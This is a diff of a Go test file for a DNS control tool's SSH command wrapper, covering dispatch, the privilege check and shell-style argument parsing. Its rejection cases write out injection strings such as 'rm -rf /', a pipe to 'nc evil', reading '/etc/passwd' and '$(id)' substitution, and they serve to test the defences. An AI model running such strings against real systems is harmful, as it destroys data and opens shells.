@@ -1,7 +1,12 @@
 package ssh
 
 import (
+	"errors"
+	"io"
+	"strings"
 	"testing"
+
+	"github.com/dlukt/dnsctl/internal/audit"
 )
 
 // TestParseCommand tests command string parsing
@@ -86,171 +91,286 @@ func TestParseCommand(t *testing.T) {
 	}
 }
 
-// TestValidateCommand tests command validation against allowlist
-func TestValidateCommand(t *testing.T) {
+// TestNewWrapHandler tests wrap handler creation
+func TestNewWrapHandler(t *testing.T) {
+	handler := NewWrapHandler(nil)
+	if handler == nil {
+		t.Error("NewWrapHandler() returned nil")
+	}
+}
+
+// contains checks if a string contains a substring
+func contains(s, substr string) bool {
+	for i := 0; i <= len(s)-len(substr); i++ {
+		if s[i:i+len(substr)] == substr {
+			return true
+		}
+	}
+	return false
+}
+
+// TestHandle tests validation and dispatch of SSH_ORIGINAL_COMMAND
+func TestHandle(t *testing.T) {
 	tests := []struct {
-		name    string
-		parts   []string
-		wantErr bool
-		errMsg  string
+		name         string
+		command      string
+		wantArgs     []string
+		wantErr      error
+		wantNotAllow bool
 	}{
-		// Allowed commands
-		{
-			name:    "doctor command",
-			parts:   []string{"doctor"},
-			wantErr: false,
-		},
-		{
-			name:    "version command",
-			parts:   []string{"version"},
-			wantErr: false,
-		},
-		{
-			name:    "zone command",
-			parts:   []string{"zone", "create", "example.com"},
-			wantErr: false,
-		},
-		{
-			name:    "rrset command",
-			parts:   []string{"rrset", "upsert", "example.com", "www", "A", "192.0.2.1"},
-			wantErr: false,
-		},
 		{
-			name:    "acme command",
-			parts:   []string{"acme", "present", "example.com", "www", "token123"},
-			wantErr: false,
+			name:     "zone create dispatched",
+			command:  "zone create example.com",
+			wantArgs: []string{"zone", "create", "example.com"},
 		},
-		// Disallowed commands
 		{
-			name:    "unknown command",
-			parts:   []string{"unknown"},
-			wantErr: true,
-			errMsg:  "not allowed",
+			name:     "flag with inline value",
+			command:  "rrset upsert --ttl=300 example.com www A 192.0.2.1",
+			wantArgs: []string{"rrset", "upsert", "--ttl=300", "example.com", "www", "A", "192.0.2.1"},
 		},
 		{
-			name:    "shell command injection attempt",
-			parts:   []string{"bash", "-c", "rm -rf /"},
-			wantErr: true,
-			errMsg:  "not allowed",
+			name:    "missing command",
+			command: "",
+			wantErr: ErrNoCommand,
 		},
 		{
-			name:    "empty command parts",
-			parts:   []string{},
-			wantErr: true,
-			errMsg:  "empty",
+			name:         "disallowed subcommand",
+			command:      "bash -c id",
+			wantNotAllow: true,
 		},
 		{
-			name:    "config command (not allowed)",
-			parts:   []string{"config", "show"},
-			wantErr: true,
-			errMsg:  "not allowed",
+			name:         "disallowed flag",
+			command:      "zone create --exec example.com",
+			wantNotAllow: true,
 		},
 		{
-			name:    "exec attempt",
-			parts:   []string{"exec", "malicious"},
-			wantErr: true,
-			errMsg:  "not allowed",
+			name:         "config flag",
+			command:      "zone create example.com --config /tmp/evil.yaml",
+			wantNotAllow: true,
 		},
 	}
 
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			err := ValidateCommand(tt.parts)
-			if (err != nil) != tt.wantErr {
-				t.Errorf("ValidateCommand(%v) error = %v, wantErr %v", tt.parts, err, tt.wantErr)
-				return
+			t.Setenv("SSH_ORIGINAL_COMMAND", tt.command)
+			t.Setenv("USER", "alice")
+
+			var gotArgs []string
+			handler := NewWrapHandler(audit.NewLogger(io.Discard, "", false)).
+				WithAllowlist(testAllowlist(t, nil))
+			err := handler.Handle(func(args []string) error {
+				gotArgs = args
+				return nil
+			})
+
+			if tt.wantErr != nil && !errors.Is(err, tt.wantErr) {
+				t.Fatalf("Handle() error = %v, want %v", err, tt.wantErr)
 			}
-			if tt.wantErr && tt.errMsg != "" && err != nil {
-				if !contains(err.Error(), tt.errMsg) {
-					t.Errorf("ValidateCommand(%v) error = %v, want error containing %q",
-						tt.parts, err, tt.errMsg)
+			if tt.wantNotAllow {
+				var notAllowed *NotAllowedError
+				if !errors.As(err, &notAllowed) {
+					t.Fatalf("Handle() error = %v, want *NotAllowedError", err)
 				}
 			}
+			if tt.wantArgs == nil {
+				if gotArgs != nil {
+					t.Errorf("rejected command was dispatched with %v", gotArgs)
+				}
+				return
+			}
+
+			if err != nil {
+				t.Fatalf("Handle() error = %v", err)
+			}
+			if strings.Join(gotArgs, "|") != strings.Join(tt.wantArgs, "|") {
+				t.Errorf("dispatched %v, want %v", gotArgs, tt.wantArgs)
+			}
+			if handler.Actor() != "alice" {
+				t.Errorf("Actor() = %q, want %q", handler.Actor(), "alice")
+			}
 		})
 	}
 }
 
-// TestAllowedSubcommands tests that the allowlist is correctly defined
-func TestAllowedSubcommands(t *testing.T) {
-	expectedAllowed := []string{"doctor", "version", "zone", "rrset", "acme"}
+// TestHandlePrivileged tests that privileged commands are only dispatched
+// for privileged actors
+func TestHandlePrivileged(t *testing.T) {
+	t.Setenv("SSH_ORIGINAL_COMMAND", "dnssec rollover --key 12345 example.com")
 
-	for _, cmd := range expectedAllowed {
-		t.Run(cmd, func(t *testing.T) {
-			if !allowedSubcommands[cmd] {
-				t.Errorf("Expected %q to be allowed", cmd)
-			}
+	for _, actor := range []string{"alice", "keyadmin"} {
+		t.Setenv("USER", actor)
+
+		dispatched := false
+		handler := NewWrapHandler(audit.NewLogger(io.Discard, "", false)).
+			WithAllowlist(testAllowlist(t, nil).WithPrivilegedActors([]string{"keyadmin"}))
+		err := handler.Handle(func(args []string) error {
+			dispatched = true
+			return nil
 		})
+
+		var notAllowed *NotAllowedError
+		if actor == "alice" && (!errors.As(err, &notAllowed) || dispatched) {
+			t.Errorf("Handle() for %s error = %v, dispatched %v; want *NotAllowedError", actor, err, dispatched)
+		}
+		if actor == "keyadmin" && (err != nil || !dispatched) {
+			t.Errorf("Handle() for %s error = %v, dispatched %v; want dispatch", actor, err, dispatched)
+		}
 	}
+}
 
-	expectedDisallowed := []string{"exec", "shell", "bash", "sh", "config", "init"}
+// TestHandleWithoutAllowlist tests that nothing is dispatched without an allowlist
+func TestHandleWithoutAllowlist(t *testing.T) {
+	t.Setenv("SSH_ORIGINAL_COMMAND", "doctor")
 
-	for _, cmd := range expectedDisallowed {
-		t.Run("disallowed_"+cmd, func(t *testing.T) {
-			if allowedSubcommands[cmd] {
-				t.Errorf("Expected %q to be disallowed", cmd)
-			}
-		})
+	handler := NewWrapHandler(audit.NewLogger(io.Discard, "", false))
+	err := handler.Handle(func(args []string) error {
+		t.Error("command dispatched without an allowlist")
+		return nil
+	})
+	var notAllowed *NotAllowedError
+	if !errors.As(err, &notAllowed) {
+		t.Errorf("Handle() error = %v, want *NotAllowedError", err)
 	}
 }
 
-// TestAllowedFlags tests that flags are correctly validated per subcommand
-func TestAllowedFlags(t *testing.T) {
-	tests := []struct {
-		subcommand string
-		flag       string
-		allowed    bool
-	}{
-		// Zone subcommand flags
-		{"zone", "create", true},
-		{"zone", "delete", true},
-		{"zone", "status", true},
-		{"zone", "list", true},
-		{"zone", "limit", true},
-		{"zone", "exec", false},
+// TestHandleDispatchError tests that dispatch errors are returned unchanged
+func TestHandleDispatchError(t *testing.T) {
+	t.Setenv("SSH_ORIGINAL_COMMAND", "doctor")
 
-		// RRset subcommand flags
-		{"rrset", "upsert", true},
-		{"rrset", "delete", true},
-		{"rrset", "get", true},
-		{"rrset", "ttl", true},
-		{"rrset", "exec", false},
+	wantErr := errors.New("dispatch failed")
+	handler := NewWrapHandler(audit.NewLogger(io.Discard, "", false)).
+		WithAllowlist(testAllowlist(t, nil))
+	err := handler.Handle(func(args []string) error {
+		return wantErr
+	})
+	if err != wantErr {
+		t.Errorf("Handle() error = %v, want %v", err, wantErr)
+	}
+}
 
-		// ACME subcommand flags
-		{"acme", "present", true},
-		{"acme", "cleanup", true},
-		{"acme", "ttl", true},
-		{"acme", "exec", false},
+// TestParseCommandQuoting tests POSIX-style quoting and escapes
+func TestParseCommandQuoting(t *testing.T) {
+	tests := []struct {
+		name      string
+		input     string
+		wantParts []string
+	}{
+		{
+			name:      "double-quoted SPF record",
+			input:     `rrset upsert example.com @ TXT "v=spf1 include:_spf.example.net ~all"`,
+			wantParts: []string{"rrset", "upsert", "example.com", "@", "TXT", "v=spf1 include:_spf.example.net ~all"},
+		},
+		{
+			name:      "single-quoted DKIM record with semicolons",
+			input:     `rrset upsert example.com sel._domainkey TXT 'v=DKIM1; k=rsa; p=MIGfMA0'`,
+			wantParts: []string{"rrset", "upsert", "example.com", "sel._domainkey", "TXT", "v=DKIM1; k=rsa; p=MIGfMA0"},
+		},
+		{
+			name:      "CAA value with embedded double quotes",
+			input:     `rrset upsert example.com @ CAA '0 issue "letsencrypt.org"'`,
+			wantParts: []string{"rrset", "upsert", "example.com", "@", "CAA", `0 issue "letsencrypt.org"`},
+		},
+		{
+			name:      "escaped double quotes inside double quotes",
+			input:     `rrset upsert example.com @ CAA "0 issue \"ca.example.net\""`,
+			wantParts: []string{"rrset", "upsert", "example.com", "@", "CAA", `0 issue "ca.example.net"`},
+		},
+		{
+			name:      "escaped dollar inside double quotes",
+			input:     `acme present example.com www "a\$b"`,
+			wantParts: []string{"acme", "present", "example.com", "www", "a$b"},
+		},
+		{
+			name:      "backslash kept before ordinary char in double quotes",
+			input:     `rrset get example.com "a\b" TXT`,
+			wantParts: []string{"rrset", "get", "example.com", `a\b`, "TXT"},
+		},
+		{
+			name:      "backslash-escaped space outside quotes",
+			input:     `rrset upsert example.com www TXT hello\ world`,
+			wantParts: []string{"rrset", "upsert", "example.com", "www", "TXT", "hello world"},
+		},
+		{
+			name:      "backslash-escaped semicolon outside quotes",
+			input:     `rrset upsert example.com www TXT a\;b`,
+			wantParts: []string{"rrset", "upsert", "example.com", "www", "TXT", "a;b"},
+		},
+		{
+			name:      "adjacent quoted and unquoted parts join",
+			input:     `rrset upsert example.com www TXT foo'bar baz'"qux"`,
+			wantParts: []string{"rrset", "upsert", "example.com", "www", "TXT", "foobar bazqux"},
+		},
+		{
+			name:      "empty quoted argument",
+			input:     `rrset upsert example.com www TXT ""`,
+			wantParts: []string{"rrset", "upsert", "example.com", "www", "TXT", ""},
+		},
+		{
+			name:      "dollar inside single quotes is literal",
+			input:     `rrset upsert example.com www TXT '$(id)'`,
+			wantParts: []string{"rrset", "upsert", "example.com", "www", "TXT", "$(id)"},
+		},
 	}
 
 	for _, tt := range tests {
-		t.Run(tt.subcommand+"_"+tt.flag, func(t *testing.T) {
-			flags := allowedFlags[tt.subcommand]
-			if flags == nil && tt.allowed {
-				t.Errorf("No flags defined for subcommand %q", tt.subcommand)
-				return
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := ParseCommand(tt.input)
+			if err != nil {
+				t.Fatalf("ParseCommand(%q) error = %v", tt.input, err)
 			}
-			if flags != nil && flags[tt.flag] != tt.allowed {
-				t.Errorf("allowedFlags[%q][%q] = %v, want %v",
-					tt.subcommand, tt.flag, flags[tt.flag], tt.allowed)
+			if len(got) != len(tt.wantParts) {
+				t.Fatalf("ParseCommand(%q) = %q, want %q", tt.input, got, tt.wantParts)
+			}
+			for i := range got {
+				if got[i] != tt.wantParts[i] {
+					t.Errorf("ParseCommand(%q)[%d] = %q, want %q", tt.input, i, got[i], tt.wantParts[i])
+				}
 			}
 		})
 	}
 }
 
-// TestNewWrapHandler tests wrap handler creation
-func TestNewWrapHandler(t *testing.T) {
-	handler := NewWrapHandler(nil)
-	if handler == nil {
-		t.Error("NewWrapHandler() returned nil")
+// TestParseCommandRejects tests rejection of shell metacharacters and malformed quoting
+func TestParseCommandRejects(t *testing.T) {
+	tests := []struct {
+		name   string
+		input  string
+		errMsg string
+	}{
+		{"semicolon", "zone list; rm -rf /", "metacharacter"},
+		{"pipe", "zone list | nc evil 1", "metacharacter"},
+		{"ampersand", "zone list && id", "metacharacter"},
+		{"background", "zone list &", "metacharacter"},
+		{"command substitution", "zone create $(id).example.com", "metacharacter"},
+		{"variable expansion", "zone create $HOME", "metacharacter"},
+		{"backticks", "zone create `id`.example.com", "metacharacter"},
+		{"command substitution in double quotes", `rrset upsert example.com www TXT "$(id)"`, "metacharacter"},
+		{"backticks in double quotes", "rrset upsert example.com www TXT \"`id`\"", "metacharacter"},
+		{"output redirect", "zone list > /tmp/out", "metacharacter"},
+		{"input redirect", "zone list < /etc/passwd", "metacharacter"},
+		{"subshell", "(zone list)", "metacharacter"},
+		{"newline", "zone list\nid", "metacharacter"},
+		{"unterminated single quote", "rrset upsert example.com www TXT 'abc", "unterminated single quote"},
+		{"unterminated double quote", `rrset upsert example.com www TXT "abc`, "unterminated double quote"},
+		{"trailing backslash", `zone list \`, "trailing backslash"},
+		{"NUL byte", "zone list\x00", "NUL"},
+		{"NUL byte in quotes", "rrset get example.com 'a\x00' TXT", "NUL"},
+		{"empty", "", "empty"},
 	}
-}
 
-// contains checks if a string contains a substring
-func contains(s, substr string) bool {
-	for i := 0; i <= len(s)-len(substr); i++ {
-		if s[i:i+len(substr)] == substr {
-			return true
-		}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := ParseCommand(tt.input)
+			if err == nil {
+				t.Fatalf("ParseCommand(%q) = %q, want error", tt.input, got)
+			}
+			var parseErr *ParseError
+			if !errors.As(err, &parseErr) {
+				t.Errorf("ParseCommand(%q) error = %T, want *ParseError", tt.input, err)
+			}
+			if !strings.Contains(err.Error(), tt.errMsg) {
+				t.Errorf("ParseCommand(%q) error = %v, want error containing %q", tt.input, err, tt.errMsg)
+			}
+		})
 	}
-	return false
 }